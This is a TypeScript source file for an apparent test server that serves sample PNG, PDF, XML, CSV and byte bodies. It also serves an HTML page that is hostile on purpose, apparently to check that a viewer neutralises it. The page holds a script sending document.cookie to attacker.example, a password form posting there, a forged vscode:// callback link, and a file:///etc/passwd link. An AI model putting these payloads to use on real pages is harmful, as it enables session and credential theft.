/** Bodies that are not JSON: an image, a PDF, XML, CSV, bytes, and a page that tries everything a page can try. */
import { deflateSync } from 'node:zlib';
import { crc32 } from 'node:zlib';
import { toNumber } from '../call.ts';
import type { Route } from '../call.ts';
import { createOrders } from '../orders.ts';
import { sendBytes } from '../respond.ts';

function toChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length, 0);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
}

/** A colour gradient of 320 x 200 (PNG, RGB, 8 bit). */
export function createPng(width = 320, height = 200): Buffer {
  const rows = Buffer.alloc(height * (width * 3 + 1));
  for (let y = 0, at = 0; y < height; y++) {
    rows[at++] = 0;
    for (let x = 0; x < width; x++) {
      rows[at++] = Math.floor((x / width) * 200) + 20;
      rows[at++] = Math.floor((y / height) * 160) + 60;
      rows[at++] = (x ^ y) & 0x80 ? 180 : 140;
    }
  }
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const data = deflateSync(rows);
  return Buffer.concat([signature, toChunk('IHDR', head), toChunk('IDAT', data), toChunk('IEND', Buffer.alloc(0))]);
}

/** One page that says what it is. */
export function createPdf(): Buffer {
  const text = 'BT /F1 24 Tf 72 720 Td (Countersign playground) Tj 0 -36 Td /F1 14 Tf (A practice invoice.) Tj ET';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${String(text.length)} >>\nstream\n${text}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let file = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const at = file.length;
    file += `${String(index + 1)} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const start = file.length;
  const rows = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  file += `xref\n0 ${String(objects.length + 1)}\n0000000000 65535 f \n${rows}`;
  file += `trailer\n<< /Size ${String(objects.length + 1)} /Root 1 0 R >>\nstartxref\n${String(start)}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
}

const hostilePage = `<!doctype html>
<html><head><meta charset="utf-8"><title>Hostile on purpose</title>
<base href="https://attacker.example/">
<meta http-equiv="refresh" content="0; url=https://attacker.example/refreshed">
<link rel="stylesheet" href="https://attacker.example/style.css">
<script>document.title = 'script ran'; fetch('https://attacker.example/?c=' + document.cookie); window.top.location = 'https://attacker.example/top';</script>
<script src="https://attacker.example/script.js"></script>
<style>@import url(https://attacker.example/import.css); body { background: url(https://attacker.example/background.png) }</style>
</head><body onload="document.title = 'onload ran'">
<h1>This page tries everything</h1>
<p>If you can read this and nothing else happened, it got nowhere.</p>
<img src="https://attacker.example/pixel.png" alt="" onerror="document.title = 'onerror ran'">
<iframe src="https://attacker.example/frame"></iframe>
<object data="https://attacker.example/object"></object>
<form action="https://attacker.example/form" method="post"><input name="password"><button>Sign in</button></form>
<a href="vscode://countersign.countersign/callback?code=stolen&amp;state=stolen">A sign-in that nobody started</a>
<a href="command:workbench.action.terminal.new">A command</a>
<a href="javascript:document.title='link ran'">A script</a>
<a href="file:///etc/passwd">A file</a>
<svg><script>document.title = 'svg script ran'</script></svg>
<video src="https://attacker.example/video.mp4" autoplay></video>
</body></html>
`;

function toXml(): string {
  const escape = (text: string): string => text.replace(/[<>&"]/g, (one) => `&#${String(one.charCodeAt(0))};`);
  const orders = createOrders(5).map(
    (order) =>
      `  <order id="${order.id}" status="${order.status}">\n    <customer>${escape(order.customer.name)}</customer>\n` +
      `    <total currency="EUR">${order.total.toFixed(2)}</total>\n  </order>\n`,
  );
  return `<?xml version="1.0" encoding="UTF-8"?>\n<orders xmlns="urn:countersign:playground:orders">\n${orders.join('')}</orders>\n`;
}

function toCsv(): string {
  const quote = (text: string): string => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
  const rows = createOrders(20).map((order) =>
    [order.id, order.status, order.customer.name, order.total.toFixed(2), order.createdAt, order.note ?? ''].map(quote),
  );
  return [['id', 'status', 'customer', 'total', 'createdAt', 'note'], ...rows]
    .map((row) => `${row.join(',')}\r\n`)
    .join('');
}

function document(path: RegExp, type: string, create: () => Buffer | string): Route {
  return {
    methods: ['GET'],
    path,
    handle: (call) => {
      sendBytes(call, 200, type, Buffer.from(create()));
    },
  };
}

export const documentRoutes: readonly Route[] = [
  document(/^\/image\.png$/, 'image/png', createPng),
  document(/^\/doc\.pdf$/, 'application/pdf', createPdf),
  document(/^\/page\.html$/, 'text/html; charset=utf-8', () => hostilePage),
  document(/^\/data\.xml$/, 'application/xml', toXml),
  document(/^\/data\.csv$/, 'text/csv; charset=utf-8', toCsv),
  {
    methods: ['GET'],
    path: /^\/bytes$/,
    handle: (call) => {
      const length = Math.floor(toNumber(call, 'n', 256, 67_108_864));
      const body = Buffer.alloc(length);
      for (let index = 0; index < length; index++) body[index] = index % 256;
      sendBytes(call, 200, 'application/octet-stream', body);
    },
  },
];
